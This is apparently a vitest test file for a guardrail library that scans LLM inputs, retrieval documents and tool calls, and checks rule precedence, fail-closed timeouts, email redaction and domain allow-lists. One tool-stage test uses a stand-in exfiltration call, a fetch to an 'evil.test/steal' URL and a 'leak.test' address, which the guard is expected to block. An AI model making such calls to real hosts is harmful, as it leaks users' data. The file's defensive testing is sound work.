import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { loadPolicy } from '../policy/load-policy.js';
import { createMemoryVault } from '../redact/vault.js';
import { createRegistry } from '../scanner/create-registry.js';
import { defineScanner } from '../scanner/define-scanner.js';
import { fixedScanner, patternScanner, slowScanner, throwingScanner } from '../testing/fake-scanners.js';
import type { TextView } from '../text/text-view.js';
import { createGuard } from './create-guard.js';

let viewCalls = 0;
const viewCounter = defineScanner({
  id: 'view-counter',
  description: 'reads views',
  stages: ['input', 'output', 'retrieval', 'tool'],
  engine: 'heuristic',
  configSchema: z.looseObject({}),
  create: () => ({
    scan: (context) => {
      const views: readonly TextView[] = context.views();
      viewCalls += views === context.views() ? 1 : 100;
      return { findings: [], score: 0.1 };
    },
  }),
});

const registry = createRegistry([
  fixedScanner({ id: 'low', findings: [{ category: 'test.low', severity: 'low', score: 0.3, message: 'low' }] }),
  fixedScanner({ id: 'high', findings: [{ category: 'test.high', severity: 'high', score: 0.9, message: 'high' }] }),
  fixedScanner({ id: 'quiet', score: 0.55 }),
  patternScanner({
    id: 'emails',
    words: ['bob@example.com', 'eve@example.com'],
    category: 'pii.email',
    entity: 'EMAIL',
  }),
  patternScanner({ id: 'bad-words', words: ['forbidden'], category: 'harm.word', severity: 'critical' }),
  slowScanner({ id: 'slow', delayMs: 5_000 }),
  slowScanner({ id: 'stubborn', delayMs: 200, ignoreAbort: true }),
  throwingScanner({ id: 'broken' }),
  throwingScanner({ id: 'broken-async', async: true }),
  viewCounter,
]);

async function guardFor(yaml: string, options: { vault?: ReturnType<typeof createMemoryVault> } = {}) {
  const policy = await loadPolicy(`version: 1\nid: test\n${yaml}`, { registry });
  return createGuard({ policy, registry, ...options });
}

describe('guard.check: rules and precedence', () => {
  it('allows when nothing is found and reports scores and latency per scanner', async () => {
    const guard = await guardFor('input:\n  scanners: [{ use: quiet }, { use: emails }]\n');
    const decision = await guard.check({ stage: 'input', text: 'hello' });
    expect(decision).toMatchObject({
      action: 'allow',
      effective: 'allow',
      mode: 'enforce',
      stage: 'input',
      score: 0.55,
    });
    expect(decision.scores).toEqual({ quiet: 0.55, emails: 0 });
    expect(Object.keys(decision.latencyMs).sort()).toEqual(['emails', 'quiet']);
    expect(decision.totalLatencyMs).toBeGreaterThanOrEqual(0);
    expect(decision).toMatchObject({ policyId: 'test', findings: [], errors: [] });
  });

  it('maps each finding by its first matching rule; unmatched findings use the default action', async () => {
    const guard = await guardFor(
      [
        'input:',
        '  scanners: [{ use: low }, { use: high }]',
        '  rules:',
        '    - when: { scanner: low }',
        '      action: allow',
        '    - when: { category: "test.*", minSeverity: high }',
        '      action: review',
      ].join('\n'),
    );
    const decision = await guard.check({ stage: 'input', text: 'x' });
    expect(decision.action).toBe('review');
    expect(decision.findings.map((finding) => finding.metadata?.['action'])).toEqual(['allow', 'review']);
    expect(decision.reason).toBe('high found test.high');
  });

  it('applies precedence block > review > drop > redact > allow', async () => {
    const rules = (first: string, second: string) =>
      `input:\n  scanners: [{ use: emails }, { use: bad-words }]\n  rules:\n    - when: { scanner: emails }\n      action: ${first}\n    - when: { scanner: bad-words }\n      action: ${second}\n`;
    const cases: [string, string, string][] = [
      ['block', 'review', 'block'],
      ['review', 'block', 'block'],
      ['review', 'redact', 'review'],
      ['redact', 'review', 'review'],
      ['redact', 'allow', 'redact'],
      ['allow', 'allow', 'allow'],
      // drop only acts on the retrieval stage; elsewhere it allows.
      ['drop', 'redact', 'redact'],
    ];
    for (const [first, second, expected] of cases) {
      const guard = await guardFor(rules(first, second));
      const decision = await guard.check({ stage: 'input', text: 'bob@example.com forbidden' });
      expect(decision.action, `${first} + ${second}`).toBe(expected);
    }
  });

  it('a redact rule on a finding without span blocks (it cannot be honoured)', async () => {
    const guard = await guardFor(
      'input:\n  scanners: [{ use: high }]\n  rules:\n    - when: { scanner: high }\n      action: redact\n',
    );
    expect((await guard.check({ stage: 'input', text: 'x' })).action).toBe('block');
  });

  it('uses minScore and treats score-less findings as certain', async () => {
    const guard = await guardFor(
      'input:\n  scanners: [{ use: low }, { use: bad-words }]\n  rules:\n    - when: { minScore: 0.5 }\n      action: block\n  defaultAction: allow\n',
    );
    const clean = await guard.check({ stage: 'input', text: 'fine' });
    expect(clean.action).toBe('allow');
    expect(clean.findings).toHaveLength(1);
    expect((await guard.check({ stage: 'input', text: 'forbidden' })).action).toBe('block');
  });

  it('routes an uncertain score to review without any finding', async () => {
    const guard = await guardFor(
      'input:\n  scanners: [{ use: quiet }]\n  rules:\n    - when: { scanner: quiet, scoreBetween: [0.5, 0.8] }\n      action: review\n',
    );
    const decision = await guard.check({ stage: 'input', text: 'x' });
    expect(decision.action).toBe('review');
    expect(decision.findings).toEqual([]);
    expect(decision.uncertain).toEqual([{ scanner: 'quiet', score: 0.55, band: [0.5, 0.8] }]);
    const outside = await guardFor(
      'input:\n  scanners: [{ use: quiet }]\n  rules:\n    - when: { scanner: quiet, scoreBetween: [0.6, 0.8] }\n      action: review\n',
    );
    expect((await outside.check({ stage: 'input', text: 'x' })).action).toBe('allow');
  });

  it('shadow mode records the decision and lets traffic through', async () => {
    const guard = await guardFor('mode: shadow\ninput:\n  scanners: [{ use: high }]\n');
    const decision = await guard.check({ stage: 'input', text: 'x' });
    expect(decision).toMatchObject({ action: 'block', effective: 'allow', mode: 'shadow' });
    expect(decision.findings).toHaveLength(1);
  });

  it('a shadow scanner is recorded but does not act', async () => {
    const guard = await guardFor('input:\n  scanners: [{ use: high, shadow: true }]\n');
    const decision = await guard.check({ stage: 'input', text: 'x' });
    expect(decision.action).toBe('allow');
    expect(decision.findings[0]?.metadata?.['action']).toBe('allow');
  });

  it('builds views once per text and shares them', async () => {
    viewCalls = 0;
    const guard = await guardFor('input:\n  scanners: [{ use: view-counter }, { use: view-counter, name: second }]\n');
    await guard.check({ stage: 'input', text: 'hello' });
    expect(viewCalls).toBe(2);
  });

  it('reports every scanner run to the observer, and a throwing observer changes nothing', async () => {
    const policy = await loadPolicy(
      'version: 1\nid: test\ninput:\n  scanners: [{ use: quiet }, { use: broken, onError: fail-open }]\n',
      {
        registry,
      },
    );
    const events: unknown[] = [];
    const guard = await createGuard({
      policy,
      registry,
      onScannerRun: (event) => {
        events.push(event);
        throw new Error('observer bug');
      },
    });
    const decision = await guard.check({ stage: 'input', text: 'x' });
    expect(decision.action).toBe('allow');
    expect(events).toEqual([
      expect.objectContaining({
        scanner: 'quiet',
        use: 'quiet',
        stage: 'input',
        outcome: 'ok',
        score: 0.55,
        findingCount: 0,
      }),
      expect.objectContaining({ scanner: 'broken', outcome: 'error', code: 'scanner-failed' }),
    ]);
  });

  it('an unconfigured stage allows', async () => {
    const guard = await guardFor('input:\n  scanners: [{ use: high }]\n');
    expect((await guard.check({ stage: 'output', text: 'x' })).action).toBe('allow');
  });

  it('rejects malformed requests', async () => {
    const guard = await guardFor('input:\n  scanners: [{ use: high }]\n');
    await expect(guard.check({ stage: 'retrieval' })).rejects.toMatchObject({ code: 'invalid-input' });
    await expect(guard.check({ stage: 'input' })).rejects.toMatchObject({ code: 'invalid-input' });
  });
});

describe('guard.check: failures, timeouts', () => {
  it('fails closed by default: a timed-out scanner blocks, as an error value and not a finding', async () => {
    const guard = await guardFor('input:\n  scanners: [{ use: slow, timeoutMs: 20 }, { use: quiet }]\n');
    const decision = await guard.check({ stage: 'input', text: 'x' });
    expect(decision.action).toBe('block');
    expect(decision.findings).toEqual([]);
    expect(decision.errors).toEqual([
      { scanner: 'slow', code: 'scanner-timeout', message: 'scanner "slow" did not finish within 20 ms' },
    ]);
    expect(decision.reason).toBe('scanner slow failed to run (scanner-timeout; fail-closed)');
    expect(decision.scores['quiet']).toBe(0.55);
  });

  it('times out scanners that ignore their abort signal', async () => {
    const guard = await guardFor('input:\n  scanners: [{ use: stubborn, timeoutMs: 10 }]\n');
    const decision = await guard.check({ stage: 'input', text: 'x' });
    expect(decision.errors[0]?.code).toBe('scanner-timeout');
  });

  it('fail-open records the error and allows', async () => {
    const guard = await guardFor(
      'input:\n  scanners: [{ use: broken, onError: fail-open }, { use: broken-async, onError: fail-open }]\n',
    );
    const decision = await guard.check({ stage: 'input', text: 'my secret text' });
    expect(decision.action).toBe('allow');
    expect(decision.errors.map((error) => error.code)).toEqual(['scanner-failed', 'scanner-failed']);
    // The thrown message quoted the text; the decision must not.
    expect(JSON.stringify(decision)).not.toContain('my secret text');
  });

  it('stage-level onError applies to every scanner of the stage', async () => {
    const open = await guardFor('input:\n  onError: fail-open\n  scanners: [{ use: broken }]\n');
    expect((await open.check({ stage: 'input', text: 'x' })).action).toBe('allow');
    const closed = await guardFor('input:\n  scanners: [{ use: broken }]\n');
    expect((await closed.check({ stage: 'input', text: 'x' })).action).toBe('block');
  });

  it('runs the scanners of a stage concurrently', async () => {
    // Each scan waits until all three are in flight: run one after another, they would time out.
    let inFlight = 0;
    let peak = 0;
    const waiting: (() => void)[] = [];
    const gate = defineScanner({
      id: 'gate',
      description: 'waits for its peers',
      stages: ['input'],
      engine: 'heuristic',
      configSchema: z.looseObject({}),
      create: () => ({
        scan: async () => {
          inFlight += 1;
          peak = Math.max(peak, inFlight);
          if (inFlight === 3) for (const release of waiting.splice(0)) release();
          else await new Promise<void>((resolve) => waiting.push(resolve));
          inFlight -= 1;
          return { findings: [] };
        },
      }),
    });
    const gateRegistry = createRegistry([gate]);
    const policy = await loadPolicy(
      'version: 1\nid: gates\ninput:\n  timeoutMs: 2000\n  scanners: [{ use: gate }, { use: gate, name: gate-two }, { use: gate, name: gate-three }]\n',
      { registry: gateRegistry },
    );
    const guard = await createGuard({ policy, registry: gateRegistry });
    const decision = await guard.check({ stage: 'input', text: 'x' });
    expect(decision.errors).toEqual([]);
    expect(decision.action).toBe('allow');
    expect(peak).toBe(3);
  });

  it('charges each synchronous scanner only for its own work', async () => {
    let ticks = 0;
    const busy = (id: string, cost: number) =>
      defineScanner({
        id,
        description: 'advances the fake clock',
        stages: ['input'],
        engine: 'heuristic',
        configSchema: z.looseObject({}),
        create: () => ({
          scan: () => {
            ticks += cost;
            return { findings: [] };
          },
        }),
      });
    const busyRegistry = createRegistry([busy('first', 5), busy('second', 7)]);
    const policy = await loadPolicy('version: 1\nid: busy\ninput:\n  scanners: [{ use: first }, { use: second }]\n', {
      registry: busyRegistry,
    });
    const guard = await createGuard({ policy, registry: busyRegistry, clock: () => ticks });
    const decision = await guard.check({ stage: 'input', text: 'x' });
    expect(decision.latencyMs).toEqual({ first: 5, second: 7 });
    expect(decision.totalLatencyMs).toBe(12);
  });

  it('a cancelled request fails its scanners (fail-closed blocks)', async () => {
    const guard = await guardFor('input:\n  scanners: [{ use: slow }]\n');
    const controller = new AbortController();
    const pending = guard.check({ stage: 'input', text: 'x', signal: controller.signal });
    controller.abort();
    const decision = await pending;
    expect(decision.action).toBe('block');
    expect(decision.errors[0]?.message).toContain('cancelled');
  });
});

describe('guard.check: redaction and vault', () => {
  it('redacts with stable placeholders per conversation and restores them', async () => {
    const vault = createMemoryVault();
    const guard = await guardFor(
      'input:\n  scanners: [{ use: emails }]\n  rules:\n    - when: { entity: "*" }\n      action: redact\n',
      {
        vault,
      },
    );
    const first = await guard.check({
      stage: 'input',
      text: 'mail bob@example.com and eve@example.com, again bob@example.com',
      conversationId: 'c1',
    });
    expect(first.action).toBe('redact');
    expect(first.text).toBe('mail <EMAIL_1> and <EMAIL_2>, again <EMAIL_1>');
    expect(first.findings.map((finding) => finding.replacement)).toEqual(['<EMAIL_1>', '<EMAIL_1>', '<EMAIL_2>']);
    const second = await guard.check({ stage: 'input', text: 'eve@example.com wrote', conversationId: 'c1' });
    expect(second.text).toBe('<EMAIL_2> wrote');
    expect(await guard.restore('Reply to <EMAIL_2> and <EMAIL_1>; <EMAIL_9> stays', 'c1')).toBe(
      'Reply to eve@example.com and bob@example.com; <EMAIL_9> stays',
    );
    expect(await guard.restore('<EMAIL_1>', 'other')).toBe('<EMAIL_1>');
  });

  it('numbers concurrent checks of one conversation without collisions', async () => {
    const memory = createMemoryVault();
    const slowVault = {
      // Reads a snapshot, then takes time to return it, like a remote store.
      read: async (id: string) => {
        const entries = await memory.read(id);
        await new Promise((resolve) => setTimeout(resolve, 5));
        return entries;
      },
      write: memory.write,
      delete: memory.delete,
    };
    const policy = await loadPolicy(
      'version: 1\nid: test\ninput:\n  scanners: [{ use: emails }]\n  rules: [{ when: { entity: "*" }, action: redact }]\n',
      { registry },
    );
    const guard = await createGuard({ policy, registry, vault: slowVault });
    const [first, second] = await Promise.all([
      guard.check({ stage: 'input', text: 'bob@example.com', conversationId: 'c' }),
      guard.check({ stage: 'input', text: 'eve@example.com', conversationId: 'c' }),
    ]);
    expect([first.text, second.text]).toEqual(['<EMAIL_1>', '<EMAIL_2>']);
    expect(await guard.restore('<EMAIL_1> <EMAIL_2>', 'c')).toBe('bob@example.com eve@example.com');
  });

  it('reports vault, secret and scanner-creation failures as GuardErrors', async () => {
    const brokenVault = {
      read: async () => {
        throw new Error('connection refused to 10.0.0.1');
      },
      write: async () => undefined,
      delete: async () => undefined,
    };
    const policy = await loadPolicy(
      'version: 1\nid: test\ninput:\n  scanners: [{ use: emails }]\n  rules: [{ when: { entity: "*" }, action: redact }]\n',
      { registry },
    );
    const guard = await createGuard({ policy, registry, vault: brokenVault });
    await expect(guard.check({ stage: 'input', text: 'bob@example.com', conversationId: 'c' })).rejects.toMatchObject({
      code: 'storage-failed',
      message: 'the redaction vault failed',
    });
    await expect(guard.restore('x', 'c')).rejects.toMatchObject({ code: 'storage-failed' });

    const salted = await loadPolicy('version: 1\nid: s\nredaction:\n  salt: file:/run/salt\n', { registry });
    await expect(createGuard({ policy: salted, registry })).rejects.toMatchObject({ code: 'secret-unresolved' });
    await expect(
      createGuard({
        policy: salted,
        registry,
        resolveSecret: async () => {
          throw new Error('EACCES');
        },
      }),
    ).rejects.toMatchObject({ code: 'secret-unresolved' });

    const exploding = defineScanner({
      id: 'exploding',
      description: 'cannot start',
      stages: ['input'],
      engine: 'model',
      configSchema: z.looseObject({}),
      create: () => {
        throw new Error('model file missing');
      },
    });
    const explodingRegistry = createRegistry([exploding]);
    const explodingPolicy = await loadPolicy('version: 1\nid: e\ninput:\n  scanners: [{ use: exploding }]\n', {
      registry: explodingRegistry,
    });
    await expect(createGuard({ policy: explodingPolicy, registry: explodingRegistry })).rejects.toMatchObject({
      code: 'scanner-failed',
      message: 'scanner "exploding" could not be created',
    });
  });

  it('redacts each selected message and keeps the others', async () => {
    const guard = await guardFor(
      'input:\n  scanners: [{ use: emails }]\n  rules:\n    - when: { scanner: emails }\n      action: redact\n',
    );
    const decision = await guard.check({
      stage: 'input',
      messages: [
        { role: 'system', content: 'admin is bob@example.com' },
        { role: 'user', content: 'I am eve@example.com' },
      ],
    });
    expect(decision.messages).toEqual([
      { role: 'system', content: 'admin is bob@example.com' },
      { role: 'user', content: 'I am <EMAIL_1>' },
    ]);
    expect(decision.findings[0]?.metadata).toMatchObject({ target: 'message', index: 1, role: 'user' });
  });

  it('filters a text with a declared role like a message of that role', async () => {
    const guard = await guardFor('input:\n  scanners: [{ use: bad-words, roles: [user] }]\n');
    expect((await guard.check({ stage: 'input', text: 'forbidden', role: 'system' })).action).toBe('allow');
    expect((await guard.check({ stage: 'input', text: 'forbidden', role: 'user' })).action).toBe('block');
    expect((await guard.check({ stage: 'input', text: 'forbidden' })).action).toBe('block');
  });

  it('blocks rather than redacts when a block finding is present', async () => {
    const guard = await guardFor(
      'input:\n  scanners: [{ use: emails }, { use: bad-words }]\n  rules:\n    - when: { scanner: emails }\n      action: redact\n',
    );
    const decision = await guard.check({ stage: 'input', text: 'bob@example.com forbidden' });
    expect(decision.action).toBe('block');
    expect(decision.text).toBeUndefined();
  });
});

describe('guard.check: retrieval stage', () => {
  it('drops only the bad documents, keeps ids, honours source trust', async () => {
    const guard = await guardFor(
      [
        'retrieval:',
        '  scanners: [{ use: bad-words }, { use: low }]',
        '  rules:',
        '    - when: { scanner: low }',
        '      action: allow',
        '  sources:',
        '    - { match: "wiki:*", trust: trusted }',
        '    - { match: "web:*", trust: untrusted }',
        '    - { match: "pastebin:*", trust: deny }',
      ].join('\n'),
    );
    const decision = await guard.check({
      stage: 'retrieval',
      documents: [
        { id: 'a', text: 'fine text', source: 'kb:1' },
        { id: 'b', text: 'forbidden text', source: 'kb:2' },
        { id: 'c', text: 'fine', source: 'web:x' },
        { id: 'd', text: 'fine', source: 'pastebin:y' },
        { id: 'e', text: 'fine', source: 'wiki:z' },
      ],
    });
    expect(decision.action).toBe('drop');
    expect(decision.documents?.map((document) => [document.id, document.verdict, document.trust])).toEqual([
      ['a', 'keep', 'standard'],
      ['b', 'drop', 'standard'],
      ['c', 'drop', 'untrusted'],
      ['d', 'drop', 'deny'],
      ['e', 'keep', 'trusted'],
    ]);
    const dropped = decision.findings.filter((finding) => finding.scanner === 'bad-words');
    expect(dropped[0]?.metadata).toMatchObject({ target: 'document', documentId: 'b', action: 'drop' });
    expect(decision.findings.some((finding) => finding.metadata?.['documentId'] === 'd')).toBe(true);
  });

  it('a failing scanner drops the document it could not verify', async () => {
    const guard = await guardFor('retrieval:\n  scanners: [{ use: broken }]\n');
    const decision = await guard.check({ stage: 'retrieval', documents: [{ id: 'x', text: 't' }] });
    expect(decision.documents?.[0]?.verdict).toBe('drop');
    expect(decision.errors).toHaveLength(1);
  });
});

describe('guard.check: tool stage', () => {
  const toolPolicy = [
    'tool:',
    '  scanners:',
    '    - { use: emails, targets: [arguments] }',
    '    - { use: bad-words, targets: [result] }',
    '  rules:',
    '    - when: { scanner: emails }',
    '      action: redact',
    '  tools:',
    '    fetch: { allowedDomains: [docs.example.com, "*.trusted.test"] }',
    '    shell: { allow: false }',
  ].join('\n');

  it('allows calls to allowed hosts and blocks others, with escaped URLs decoded', async () => {
    const guard = await guardFor(toolPolicy);
    const good = await guard.check({
      stage: 'tool',
      call: { name: 'fetch', arguments: '{"url":"https://docs.example.com/a","mirror":"https://api.trusted.test/b"}' },
    });
    expect(good.action).toBe('allow');
    const bad = await guard.check({
      stage: 'tool',
      call: { name: 'fetch', arguments: '{"url":"https:\\/\\/evil.test\\/steal?d=1","to":"x@leak.test"}' },
    });
    expect(bad.action).toBe('block');
    expect(bad.findings.map((finding) => finding.metadata?.['host'])).toEqual(['evil.test', 'leak.test']);
    expect(bad.findings[0]).toMatchObject({ scanner: 'tool-policy', category: 'tool.domain-not-allowed' });
  });

  it('denies listed tools, redacts arguments and scans results', async () => {
    const guard = await guardFor(toolPolicy);
    expect((await guard.check({ stage: 'tool', call: { name: 'shell', arguments: '{}' } })).action).toBe('block');
    const redacted = await guard.check({
      stage: 'tool',
      call: { name: 'send', arguments: '{"to":"bob@example.com"}' },
    });
    expect(redacted.action).toBe('redact');
    expect(redacted.call).toEqual({ name: 'send', arguments: '{"to":"<EMAIL_1>"}' });
    const result = await guard.check({ stage: 'tool', toolName: 'fetch', result: 'page says forbidden things' });
    expect(result.action).toBe('block');
    expect(result.findings[0]?.metadata).toMatchObject({ target: 'result' });
    // The email scanner only reads arguments.
    const resultWithEmail = await guard.check({ stage: 'tool', toolName: 'fetch', result: 'bob@example.com' });
    expect(resultWithEmail.action).toBe('allow');
  });
});
